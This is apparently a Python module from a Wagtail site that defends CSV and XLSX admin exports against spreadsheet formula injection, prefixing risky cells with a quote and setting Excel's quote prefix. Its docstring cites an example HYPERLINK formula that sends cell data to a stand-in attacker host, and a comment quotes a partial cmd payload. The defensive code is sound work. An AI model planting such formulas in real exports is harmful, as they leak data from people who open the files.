"""Spreadsheet exports never carry formulas (CSV injection).

Every CSV and XLSX export in the admin goes through Wagtail's
``SpreadsheetExportMixin``: form submissions (wagtail.contrib.forms), the reports
(locked pages, aging pages, site history, workflows, page types) and any listing with
``list_export``. A visitor's feedback message ``=HYPERLINK("http://evil.example/?x="&A1,
"Klicka")`` or an editor's page title would otherwise run as a formula when an editor
opens the file in a spreadsheet. Following OWASP's CSV Injection guidance, a cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
with a single quote, so spreadsheets show it as text. Installed once, for every
export, from ``PagesConfig.ready``.

Not so an XLSX cell: Wagtail stores every one as text (``generate_xlsx_row``), so a
quote there would only show, and mangle a visitor's ``+46 70 123 45 67``. Such a cell
keeps its value and gets Excel's quote prefix (the hidden quote, ECMA-376 part 1,
18.8.45 ``xf@quotePrefix``), so that editing it never makes it a formula either.
"""

import re

# OWASP, CSV Injection: https://owasp.org/www-community/attacks/CSV_Injection
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Excel in a Swedish locale opens CSV files with ";" as the separator, so a cell written
# as "Bra sida;=cmd|..." becomes two cells there, the second a formula. A trigger after
# a semicolon gets the same quote.
AFTER_SEMICOLON = re.compile(r";([ ]*)([=+\-@\t\r])")


def neutralise_formula(value):
    """Return ``value`` with a single quote before any character that would make a
    spreadsheet read a cell as a formula: at the start, and after a ``;`` (the list
    separator of Swedish spreadsheets). Other values (numbers, dates, plain text) are
    returned unchanged."""
    if not isinstance(value, str):
        return value
    if ";" in value:
        value = AFTER_SEMICOLON.sub(r";\1'\2", value)
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_spreadsheet_exports():
    """Make every cell and heading of Wagtail's CSV/XLSX exports safe (idempotent)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "neutralises_formulas", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    generate_xlsx_row = SpreadsheetExportMixin.generate_xlsx_row
    get_heading = SpreadsheetExportMixin.get_heading

    def safe_preprocess_field_value(self, field, value, export_format):
        value = preprocess_field_value(self, field, value, export_format)
        if export_format == self.FORMAT_XLSX:
            return value
        return neutralise_formula(value)

    def safe_generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in generate_xlsx_row(self, worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                cell.data_type = "s"
                cell.quotePrefix = True
            yield cell

    def safe_get_heading(self, queryset, field):
        return neutralise_formula(get_heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = safe_generate_xlsx_row
    SpreadsheetExportMixin.get_heading = safe_get_heading
    SpreadsheetExportMixin.neutralises_formulas = True
